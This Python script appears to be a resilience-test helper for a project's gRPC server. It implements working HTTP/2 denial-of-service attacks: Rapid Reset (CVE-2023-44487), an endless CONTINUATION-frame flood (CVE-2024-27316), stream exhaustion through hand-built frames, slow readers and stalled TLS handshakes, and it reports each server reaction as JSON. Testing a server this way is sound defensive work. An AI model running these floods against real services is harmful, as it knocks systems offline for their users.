#!/usr/bin/python3
"""HTTP/2 abuse against a gRPC server, the way attackers do it (tests/api_abuse.rs).

usage: h2_abuse.py ATTACK TARGET SECONDS

ATTACK: rapid-reset | continuation | streams | slow-reader | tls-stall
TARGET: a Unix socket path (h2 with prior knowledge), or host:port (tls-stall only).
Prints one JSON line of what the server did. Needs Debian's python3-h2.
"""

import json
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack

PATH = "/x0tta6bl4.dataplane.v1.Dataplane/GetInfo"
WATCH = "/x0tta6bl4.dataplane.v1.Dataplane/WatchStats"


def grpc_headers(path):
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def grpc_message(payload=b""):
    return b"\x00" + struct.pack(">I", len(payload)) + payload


def connect(target):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(target)
    return s


def h2_client(sock, settings=None):
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    sock.sendall(conn.data_to_send())
    return conn


def pump(sock, conn, timeout=0.0):
    """Reads what the server sent; returns its events, or None once it closed."""
    sock.settimeout(timeout)
    try:
        data = sock.recv(1 << 20)
    except (BlockingIOError, socket.timeout):
        return []
    except OSError:
        return None
    if not data:
        return None
    try:
        events = conn.receive_data(data)
    except Exception:  # a protocol error on our side after the server's GOAWAY
        return None
    out = conn.data_to_send()
    if out:
        try:
            sock.sendall(out)
        except OSError:
            return None
    return events


def goaway_of(events):
    for e in events or []:
        if isinstance(e, h2.events.ConnectionTerminated):
            return str(e.error_code)
    return None


def rapid_reset(target, seconds):
    """HEADERS then RST_STREAM at once, as fast as possible (CVE-2023-44487); a new
    connection each time the server closes one, until `seconds` have passed."""
    sent, closed, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock = connect(target)
        conn = h2_client(sock)
        while time.monotonic() < deadline:
            try:
                for _ in range(100):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, grpc_headers(PATH))
                    conn.reset_stream(sid)
                    sent += 1
                sock.sendall(conn.data_to_send())
            except Exception:
                closed += 1
                break
            events = pump(sock, conn)
            if events is None or goaway_of(events):
                closed += 1
                break
        sock.close()
    return {"streams_reset": sent, "connections_closed_by_server": closed}


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def continuation(target, seconds):
    """HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316);
    a new connection each time the server closes one, until `seconds` have passed."""
    filler = hpack.Encoder().encode([("x-filler-%d" % i, "a" * 1000) for i in range(15)])
    most, closed, deadline = 0, 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        sock = connect(target)
        conn = h2_client(sock)
        sock.sendall(frame(0x1, 0x0, 1, hpack.Encoder().encode(grpc_headers(PATH))))
        sent = 0
        while time.monotonic() < deadline:
            try:
                sock.sendall(frame(0x9, 0x0, 1, filler))
                sent += len(filler)
            except OSError:
                closed += 1
                break
            events = pump(sock, conn)
            if events is None or goaway_of(events):
                closed += 1
                break
        most = max(most, sent)
        sock.close()
    return {"most_header_bytes_on_a_connection": most, "connections_closed_by_server": closed}


def streams(target, seconds, count=1000):
    """Opens `count` streams on one connection and holds them open."""
    sock = connect(target)
    conn = h2_client(sock)
    pump(sock, conn, 1.0)
    limit = conn.remote_settings.max_concurrent_streams
    # h2 itself will not exceed the server's limit: the frames are written by hand.
    encoder, opened, refused = hpack.Encoder(), 0, 0
    for i in range(count):
        block = encoder.encode(grpc_headers(WATCH))
        sock.sendall(frame(0x1, 0x4, 1 + 2 * i, block))  # END_HEADERS; the stream stays open
        opened += 1
    deadline = time.monotonic() + seconds
    raw = b""
    sock.settimeout(0.2)
    while time.monotonic() < deadline:
        try:
            data = sock.recv(1 << 20)
        except socket.timeout:
            continue
        if not data:
            break
        raw += data
    # Count RST_STREAM(REFUSED_STREAM = 7) frames in what came back.
    i = 0
    while i + 9 <= len(raw):
        length = int.from_bytes(raw[i : i + 3], "big")
        kind = raw[i + 3]
        if kind == 0x3 and length == 4 and raw[i + 9 : i + 13] == b"\x00\x00\x00\x07":
            refused += 1
        i += 9 + length
    return {"advertised_max_streams": limit, "opened": opened, "refused": refused}


def slow_reader(target, seconds, conns=20):
    """Opens WatchStats streams with a 1-byte window and never reads."""
    socks = []
    for _ in range(conns):
        sock = connect(target)
        conn = h2_client(sock, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1})
        for _ in range(10):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, grpc_headers(WATCH))
            # WatchStatsRequest{interval_ms: 100}: field 1, varint 100.
            conn.send_data(sid, grpc_message(b"\x08\x64"), end_stream=True)
        sock.sendall(conn.data_to_send())
        socks.append(sock)
    time.sleep(seconds)
    alive = sum(still_open(s) for s in socks)
    for s in socks:
        s.close()
    return {"connections": conns, "streams": conns * 10, "still_open": alive}


def still_open(sock):
    """Reads what the server sent (never read until now) to tell an open socket from one
    the server closed."""
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
        return False
    except BlockingIOError:
        return True
    except OSError:
        return False


def tls_stall(target, seconds, conns=200):
    """Opens TCP connections to a TLS listener and never sends a ClientHello."""
    host, port = target.rsplit(":", 1)
    socks = []
    for _ in range(conns):
        s = socket.create_connection((host.strip("[]"), int(port)))
        s.setblocking(False)
        socks.append(s)
    start, closed_at = time.monotonic(), {}
    while time.monotonic() - start < seconds and len(closed_at) < conns:
        for i, s in enumerate(socks):
            if i in closed_at:
                continue
            try:
                if s.recv(1) == b"":
                    closed_at[i] = time.monotonic() - start
            except BlockingIOError:
                pass
            except OSError:
                closed_at[i] = time.monotonic() - start
        time.sleep(0.05)
    for s in socks:
        s.close()
    times = sorted(closed_at.values())
    return {
        "connections": conns,
        "closed": len(times),
        "last_closed_s": round(times[-1], 2) if times else None,
    }


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation": continuation,
    "streams": streams,
    "slow-reader": slow_reader,
    "tls-stall": tls_stall,
}

if __name__ == "__main__":
    if len(sys.argv) != 4 or sys.argv[1] not in ATTACKS:
        sys.exit(__doc__)
    result = ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3]))
    print(json.dumps({"attack": sys.argv[1], **result}), flush=True)
